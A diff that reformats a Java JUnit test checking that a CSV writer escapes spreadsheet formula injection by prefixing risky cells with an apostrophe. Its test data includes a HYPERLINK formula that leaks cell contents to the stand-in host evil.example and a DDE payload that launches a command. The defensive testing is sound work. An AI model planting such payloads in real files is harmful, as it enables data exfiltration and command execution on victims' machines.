@@ -14,9 +14,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /**
- * A cell a spreadsheet would run as a formula opens as text: read back with Jackson's CSV
- * reader (an RFC 4180 parser that is not ours), it is the text with one apostrophe before it,
- * and the row keeps its columns.
+ * A cell a spreadsheet would run as a formula opens as text: read back with Jackson's CSV reader
+ * (an RFC 4180 parser that is not ours), it is the text with one apostrophe before it, and the row
+ * keeps its columns.
  */
 class CsvRowTest {
 
@@ -41,12 +41,16 @@ class CsvRowTest {
   }
 
   @ParameterizedTest(name = "a cell beginning with U+{0}")
-  @ValueSource(strings = {"003D", "002B", "002D", "0040", "0009", "000D",
-      "FF1D", "FF0B", "FF0D", "FF20"})
+  @ValueSource(
+      strings = {"003D", "002B", "002D", "0040", "0009", "000D", "FF1D", "FF0B", "FF0D", "FF20"})
   void aCellBeginningWithAFormulaCharacterOpensAsText(String hex) throws IOException {
     String lead = String.valueOf((char) Integer.parseInt(hex, 16));
-    for (String rest : List.of("HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
-        "cmd|' /C calc'!A0", "1+1", "SUM(1,2)")) {
+    for (String rest :
+        List.of(
+            "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+            "cmd|' /C calc'!A0",
+            "1+1",
+            "SUM(1,2)")) {
       String cell = lead + rest;
       List<String> row = roundTrip(List.of("id-1", cell, "after"));
       assertEquals(List.of("id-1", "'" + cell, "after"), row);
@@ -62,8 +66,18 @@ class CsvRowTest {
 
   @Test
   void ordinaryTextIsWrittenAsItIs() throws IOException {
-    List<String> cells = List.of("2025-06-03", "Qatar and Syria sign", "اتفاق الدفاع المدني",
-        "a, b", "say \"no\"", "two\nlines", "", "1+1=2", "e-mail: a@b.example", "'quoted'");
+    List<String> cells =
+        List.of(
+            "2025-06-03",
+            "Qatar and Syria sign",
+            "اتفاق الدفاع المدني",
+            "a, b",
+            "say \"no\"",
+            "two\nlines",
+            "",
+            "1+1=2",
+            "e-mail: a@b.example",
+            "'quoted'");
     assertEquals(cells, roundTrip(cells));
     StringBuilder plain = new StringBuilder();
     CsvRow.append(plain, List.of("2025-06-03", "Qatar and Syria sign", "1+1=2"));
